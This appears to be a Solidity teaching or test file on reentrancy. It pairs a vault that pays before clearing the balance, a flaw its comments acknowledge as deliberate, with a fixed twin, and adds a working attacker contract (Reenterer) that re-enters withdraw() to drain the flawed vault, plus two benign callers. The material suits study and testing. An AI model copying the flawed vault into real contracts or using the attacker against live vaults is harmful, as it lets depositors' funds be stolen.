// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// Keeps ether for many. Pays before it forgets the claim: who is paid can come back
/// through receive() and claim the same balance again.
contract PayFirstVault {
    mapping(address => uint256) public balances; // slot 0

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "nothing to withdraw");
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "payment refused");
        balances[msg.sender] = 0; // too late
    }
}

/// The sound twin: the claim is gone before anything is paid.
contract ForgetFirstVault {
    mapping(address => uint256) public balances; // slot 0

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "nothing to withdraw");
        balances[msg.sender] = 0;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "payment refused");
    }
}

interface IEtherVault {
    function balances(address) external view returns (uint256);
    function deposit() external payable;
    function withdraw() external;
}

/// Deposits once and claims again from inside the payment, up to `rounds` times. A
/// refused claim is swallowed, so that the same script runs against either vault.
contract Reenterer {
    IEtherVault private immutable vault;
    uint256 private rounds;

    constructor(IEtherVault vault_) {
        vault = vault_;
    }

    function run(uint256 rounds_) external payable {
        rounds = rounds_;
        vault.deposit{value: msg.value}();
        vault.withdraw();
        (bool ok,) = msg.sender.call{value: address(this).balance}("");
        require(ok, "payment refused");
    }

    receive() external payable {
        if (rounds > 0) {
            rounds--;
            try vault.withdraw() {} catch {}
        }
    }
}

/// Comes back, too, but only to look: a wallet that shows its balance as it changes.
contract Onlooker {
    IEtherVault private immutable vault;
    uint256 public seen;

    constructor(IEtherVault vault_) {
        vault = vault_;
    }

    function run() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
        (bool ok,) = msg.sender.call{value: address(this).balance}("");
        require(ok, "payment refused");
    }

    receive() external payable {
        seen = vault.balances(address(this));
    }
}

/// Deposits again from inside the payment: on the vault that pays first its maker only
/// loses, since the vault then forgets the new deposit, too.
contract Redepositor {
    IEtherVault private immutable vault;

    constructor(IEtherVault vault_) {
        vault = vault_;
    }

    function run() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        vault.deposit{value: msg.value / 2}();
    }
}
